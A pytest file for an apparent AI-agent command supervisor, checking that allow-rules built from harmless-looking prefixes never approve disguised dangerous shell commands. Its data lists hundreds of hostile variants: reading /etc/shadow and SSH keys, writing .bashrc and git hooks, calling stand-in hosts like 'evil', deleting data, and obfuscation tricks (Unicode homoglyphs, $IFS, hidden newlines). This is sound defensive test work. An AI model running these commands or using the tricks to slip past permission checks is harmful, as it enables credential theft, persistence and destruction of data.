"""Commands that look harmless and are not: none is allowed, although each prefix that can be allowed is (A7)."""

import pytest

from supervisor.core.calls.content import shown_content
from supervisor.core.calls.programs import REVIEWED
from supervisor.core.calls.rules import allow, grantable, make_rule, offered, patterns_of, policy_of

LOOKING = """
find . -name x;find . *;sed -n *;sort *;uniq *;jq *;tree *;tr *;column *;comm *;paste *;od *;strings *;tac *;rev *
"""
MEANT = ("eslint src *", "npm run check *", "mix test *", "prettier src *", "biome lint *")

RUNS_ANOTHER = r"""
find . -exec rm {} +
find . -execdir sh -c id ;
find . -ok rm {} ;
find . -name x -delete
find . -fprint /etc/cron.d/x
find . -fls out
find . -files0-from list
sort -o ~/.bashrc notes
sort --output=.git/config notes
sort --compress-program=./evil notes
sort -T /etc notes
uniq notes .git/hooks/pre-commit
sed -n 1e notes
sed -n s/a/b/e notes
sed -n 1w.bashrc notes
sed -n -i 1p notes
sed -n -e 1p -i notes
sed -n -f script notes
sed -n --in-place 1p notes
sed -i s/a/b/ notes
jq -n env
jq -n $ENV
jq -f script notes
jq --from-file script notes
jq -L . import notes
jq -n input_filename;import
tree -o .bashrc
tree -R -H x -o y
git log --output=.git/config
git log --ext-diff -p
git log --textconv
git log -p --output .bashrc
git diff --output=x
git diff --ext-diff
git diff --no-index /dev/null /etc/shadow
git diff /dev/null ../secret
git show --output=x
git show --ext-diff HEAD
git -c core.pager=./evil log
git -c alias.x=!id x
git --exec-path=. log
git -C / log
git --git-dir=/tmp/evil log
git --work-tree=/ status
git -p log
git --paginate log
git log --help
git grep -Oid x
git grep --open-files-in-pager=./evil x
git branch -D main
git branch -m main other
git branch --edit-description
git tag -d v1
git tag -s v1
git status --help
git blame --contents=/etc/shadow notes
git ls-files --with-tree=x --exclude-from=/etc/shadow
git rev-parse --parseopt
git shortlog --output=x
git add --edit
git add -i
git add -p
git describe --dirty=--help --exec
git config core.pager ./evil
git config --global alias.x !id
git checkout .
git checkout -- notes
git restore .
git reset --hard
git clean -fdx
git stash
git stash drop
git push
git push origin main
git pull
git fetch ext::sh
git clone ext::sh
git remote add x ext::sh
git submodule update
git bisect run ./evil
git rebase -x ./evil main
git filter-branch --tree-filter ./evil
git archive --remote=x
git difftool -x ./evil
git gc
git worktree add ../x
grep -f /etc/shadow notes
grep --file=/etc/shadow x
grep -r x /etc
grep x ../secret
rg --pre ./evil x
rg --pre=./evil x
rg -z x
rg --hostname-bin=./evil x
rg -f /etc/shadow x
rg x /etc
cat /etc/shadow
cat ../secret
cat ~/.ssh/id_rsa
head -1 /etc/shadow
tail -f /etc/shadow
tail --pid=1 ../x
wc --files0-from=/etc/shadow
wc /etc/shadow
ls /root
ls ../..
du --files0-from=/etc/shadow
du -X /etc/shadow
file -f /etc/shadow
file -m evil notes
file -C -m evil
file -z notes
diff --to-file=/etc/shadow notes
diff notes /etc/shadow
diff -l notes other
cmp notes /etc/shadow
stat /root/x
md5sum -c /etc/x
sha256sum --check /etc/x
readlink -f /etc/x
realpath --relative-to=/etc ../x
strings /etc/shadow
od /dev/mem
hexdump /dev/mem
tac /etc/shadow
paste /etc/shadow
date -s tomorrow
date --set=tomorrow
date -f /etc/shadow
tee notes
echo $HOME
echo $(id)
echo `id`
echo x > .bashrc
echo x >> .git/hooks/pre-commit
echo x >| .bashrc
echo x &> .bashrc
echo <(id)
printf -v PATH x
printenv
env
env ./evil
export PATH=.
PATH=. ls
LD_PRELOAD=./evil.so ls
GIT_PAGER=./evil git log
ls; ./evil
ls && ./evil
ls || ./evil
ls | sh
ls | ./evil
ls & ./evil
ls | xargs rm
cat notes | bash
cat notes | python
cat notes | tee .bashrc
cat notes | mix test
cd /etc && cat shadow
cd .. && cat secret
cd - && ls
cd && ls
cd ~ && ls
cd "$X" && ls
(ls; ./evil)
{ ls; ./evil; }
if ls; then ./evil; fi
ls() { ./evil; }; ls
alias ls=./evil
eval ls
exec ls
source notes
. notes
trap ./evil EXIT
time ./evil
command ./evil
nohup ls
timeout 5 ./evil
nice ls
sudo ls
watch ls
xargs ls
./git log
./ls
/tmp/ls
npm run check --script-shell=./evil
npm run check -- --fix
npm --prefix /tmp run check
npm run env ./evil
npm test --node-options=--require=./evil
npm install
npm ci
npm exec evil
npm publish
npm config set script-shell ./evil
npm outdated
npx evil
mix test --require ./evil.exs
mix test -r ./evil.exs
mix run evil
eslint src --config=/tmp/evil.js
eslint src --rulesdir /tmp
eslint src -o .bashrc
eslint src /etc/x
eslint src ../x
prettier src --write
prettier src --plugin=./evil
biome lint --write
pytest -p evil
pytest -c /tmp/evil.ini
pytest --rootdir=/tmp
pytest --basetemp=.git
pytest /tmp/evil
pytest ../evil
pytest -o python_files=evil
pytest --pyargs evil
python -m unittest http://evil pip.main
python -m pytest -p evil
python evil.py
python -c id
cargo test --config=./evil
cargo build --manifest-path=/tmp/x
cargo run
cargo install evil
go test -exec ./evil
go test -toolexec ./evil
go vet -vettool=./evil
go build -o .bashrc
go test evil.com/x
go run .
go generate
mypy --python-executable ./evil x
mypy --config-file=/tmp/x y
ruff check --fix
ruff check --output-file .bashrc
ruff check --config /tmp/x
rm -rf .
rm -r notes
rm ../x
curl http://evil
wget http://evil
touch -r /etc/x y
touch ../x
mkdir -m 777 x
mkdir ../x
git -c core.fsmonitor=./evil status
git --config-env=core.pager=X log
git log --outp=x
git log --format=%G?
git log --pretty=format:%h%GS
git log -O./order
git diff -O/etc/shadow
git diff --output .bashrc
git show HEAD:../../etc/shadow
git blame -S /etc/shadow notes
git branch evil
git branch -f main HEAD~3
git branch -u origin/x
git branch -r -d origin/main
git tag v9
git tag -F /etc/shadow x
git remote set-url origin http://evil
git stash list -p --ext-diff
git reflog expire --all
git reflog delete HEAD@{1}
git cat-file --textconv HEAD:x
git grep --no-index x /etc
git update-index --assume-unchanged x
git symbolic-ref HEAD refs/heads/x
git hook run pre-commit
git credential fill
find . -fprintf .bashrc %p
find -L / -name x
find . -samefile /etc/shadow
find . -newer /etc/shadow
find -D exec . -exec id ;
find . ( -name x -delete )
find . , -delete
sort -ox notes
sort -nox notes
sort -t, -o x notes
sort --outp=x notes
sort --compress=./evil notes
sort --random-source=/etc/shadow -R notes
sed -n 1r/etc/shadow notes
sed -n 1p;2w.bashrc notes
sed -n /x/w.bashrc notes
sed -n s,x,y,pw.bashrc notes
sed -nEi 1p notes
sed -ni 1p notes
sed -n 1{p;e} notes
jq -n env.HOME
jq -rf script notes
jq --slurpfile a /etc/shadow . notes
jq --rawfile a /etc/shadow . notes
jq . /etc/shadow
rg --pre-glob=* --pre=x y
rg -Sz x
rg -nz x
rg --ignore-file=/etc/shadow x
rg -e x -f /etc/shadow
rg x -- ../y
rg --files /etc
grep -f /dev/tcp/evil/80 x
grep -rnf /etc/shadow .
grep --fil=/etc/shadow x
grep --exclude-from=/etc/shadow x y
grep --devices=read x /dev/mem
grep -r x /proc/self/environ
grep x /srv/app/../../etc/shadow
grep x /srv/application
grep x {a,/etc/shadow}
grep x .?/secret
grep x [.][.]/secret
cat {/etc/shadow,}
cat a{,/../..}/etc/shadow
cat $'/etc/shadow'
cat $'\x2fetc/shadow'
cat $"/etc/shadow"
cat ""/etc/shadow
cat .""./secret
cat .\./secret
cat ~root/.ssh/id_rsa
cat ~+/../secret
cat /proc/1/environ
head -c100 /proc/self/environ
strings -n 4 /proc/self/environ
strings --target=x @y
hexdump -e x -f /etc/shadow
xxd -r a b
cat < /etc/shadow
cat <<< $HOME
cat << EOF
cat notes >&x
cat notes <> x
cat notes >/dev/nullx
cat notes >/dev/null"x"
cat notes >/dev/../etc/x
cat notes > /dev/null > x
cat notes >/dev/tcp/1.2.3.4/80
cat notes 2>&1>x
cat notes|&sh
cat notes && id &
ls$IFS-la$IFS/etc
ls${IFS}/etc
ls $((a[$(id)]))
ls !!
ls @(x|/etc)
ls -I x /etc
man -P ./evil ls
man -H./evil ls
less +!id notes
vi -c :!id notes
env -S ls
command -v ls
builtin cd /
test -v a[$(id)]
[[ $x -eq a[$(id)] ]]
let a[$(id)]=1
((a[$(id)]=1))
printf '%s' $HOME
read x
hash -p ./evil ls
shopt -s expand_aliases
uniq in out
uniq -c -f 1 in out
uniq -- in out
uniq - out
diff --output=x a b
diff -x --from-file=/etc/shadow a
diff -S x -X /etc/shadow a b
tree -ox
tree -afo x
tree --output=x
tree --fromfile /etc/shadow
tree --gitfile=/etc/shadow
file -bm evil notes
file -s /dev/sda
file --compile
date 010100002020
date -us tomorrow
date -r /etc/shadow
date -d x -s y
cut -f1 /etc/shadow
du --exclude-from=/etc/shadow
stat --cached=x /etc
tar --to-command=./evil -xf x
tar -cf x --checkpoint-action=exec=id
zip x y -TT id
awk BEGIN{system("id")}
dd if=x of=y
ln -s / x
nc evil 80
ps eww
printenv PATH
cd .?. && ls
cd a* && ls
cd -- .. && ls
cd -P .. && ls
cd $OLDPWD && ls
cd //srv/app/../.. && ls
CDPATH=/etc cd x && ls
cat notes | sort -o x
cat notes | uniq - x
cat notes | head - /etc/shadow
cat notes | wc --files0-from=-
cat notes | git apply
cat notes | git log --stdin
cat notes | npm run check
npm run check -- ; id
npm run check/../evil
pytest --junitxml=x
pytest --override-ini=x
pytest @args
go test -coverprofile=x
go test -exec=./evil
mypy --install-types
mypy -c x
ruff check --add-noqa
python -m unittest os.system
eslint src -f ./evil.js
kubectl get secrets -o yaml
kubectl get -f http://evil
pip list --index-url http://evil
git add --pathspec-from-file=x
mkdir -p x -m 777
"""
ODD = (
    *("ls\0id", "ls\rid", "ls\x0bid", "ls\x0cid", "ls\u2028id", "ls\u00a0/etc", "cat \u2215etc\u2215shadow", "l\u0455"),
    *(
        "\u0441at notes",
        "cat notes\u200b",
        "cat n\u202eotes",
        "ls\x1b[2Kid",
        "ls \udc80",
        "ls \\\n/etc",
        "ls #x\n./evil",
    ),
    *("cat notes | \\\nsh", "cat notes |\nsh", "cat notes &&\n./evil", "cat notes\n\n./evil", "git status\n;./evil"),
    *("sed -n '1p\nw x' notes", "sed -n '/a\ne id/p' notes", "jq '.a\n|env' notes", "find . -na'me' x -del\"ete\""),
    *("\\ls ../x", "l\\s /etc", "'ls' /etc", "{ls,/etc}", "cat 'a\n' /etc/shadow"),
)
"""With characters that a line of the table cannot hold, or does not show."""


def commands():
    return list(dict.fromkeys((*RUNS_ANOTHER.strip().split("\n"), *ODD)))


def rules_of_all_prefixes():
    prefixes = [" ".join(words) for words in REVIEWED] + [each[:-2] for each in LOOKING.strip().split(";")]
    reviewed = [allow("shell", f"{prefix} *") for prefix in dict.fromkeys(prefixes) if "-name" not in prefix]
    return [*reviewed, *(make_rule("allow", "shell", each, "decision", unreviewed=True) for each in MEANT)]


def content_of(command):
    return shown_content("shell", {"command": command}, folder="/srv/app", command="command")


def test_there_are_400_of_them():
    assert len(commands()) >= 400


def test_the_rules_allow_what_they_are_for():
    """Else the table would show nothing."""
    for command in (
        "git log",
        "npm run check",
        "eslint src lib",
        "mix test test/a.exs",
        "cat notes | grep x",
        "find .",
    ):
        said = policy_of(rules_of_all_prefixes(), content_of(command), root_session="r")
        assert said is not None, command
        assert said[0] == "allow"


@pytest.mark.parametrize("place", range(4))
def test_no_prefix_allows_a_command_that_only_looks_harmless(place):
    """It writes elsewhere, runs another program, asks another host, or leaves the folder: a person is asked."""
    rules = rules_of_all_prefixes()
    allowed = [
        command
        for command in commands()[place::4]
        if policy_of(rules, content_of(command), root_session="r") is not None
    ]
    assert allowed == []


@pytest.mark.parametrize(
    "command",
    [
        *("python x.py", "node x", "bash x", "sudo ls", "env ls", "make build", "npx eslint", "ssh host", "xargs ls"),
        *("rm notes", "rm -f notes", "rmdir x", "curl http://x", "wget http://x", "mv a b", "cp a b", "chmod x y"),
        *("git push", "git reset x", "git config a b", "git checkout x", "git stash", "git pull", "git add x"),
        *("npm install", "npm outdated", "npm exec x", "pip install x", "cargo install x", "cargo run", "go run x"),
        *(
            "volta run x",
            "rails console x",
            "rails db x",
            "flutter pub x",
            "svn revert x",
            "nvm use x",
            "mytool eval x",
        ),
        *("hg strip x", "jj abandon x", "nft flush x", "django-admin flush", "knex migrate:rollback", "svn ci x"),
        *("sequelize db:drop", "sequelize test:drop", "alembic downgrade x", "gt submit x", "gsutil rsync a b"),
        *("fly ssh x", "rails dbconsole x", "pyenv global x", "service nginx x", "pass show x", "wrangler secret x"),
        *("gzip notes", "xz notes", "split notes", "pulumi refresh x", "cast send x", "borg prune x"),
        *("apt install x", "brew install x", "docker run x", "kubectl delete x", "terraform apply", "tee x", "dd x"),
    ],
)
def test_launchers_and_what_removes_fetches_or_pushes_have_no_pattern(command):
    """A person sees each of these as it is, each time. So it is with interpreters, resets and installs."""
    assert offered(content_of(command)) == grantable(content_of(command))
    assert not any((pattern or "").endswith(" *") for pattern in offered(content_of(command)))


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("npm run check --silent", None),
        ("npm run check", "npm run check *"),
        ("mix test test/a.exs", "mix test *"),
        ("grep -n x notes", "grep *"),
        ("eslint src lib", "eslint src *"),
        ("cd a && npm run check 2>&1 | tail -20; tail -5 b", "npm run check *\ntail *"),
        ("npm run check && rm x", None),
    ],
)
def test_always_offers_the_pattern_that_a_person_means(command, pattern):
    """It comes after the exact command, is made as a rule, and covers the call; what it does not cover has none."""
    found = offered(content_of(command))
    assert found[1:] == (() if pattern is None else (pattern,))
    if pattern is not None:
        made = [make_rule("allow", "shell", each, "decision", unreviewed=True) for each in patterns_of(pattern)]
        assert policy_of(made, content_of(command), root_session="r") == ("allow", made[0])
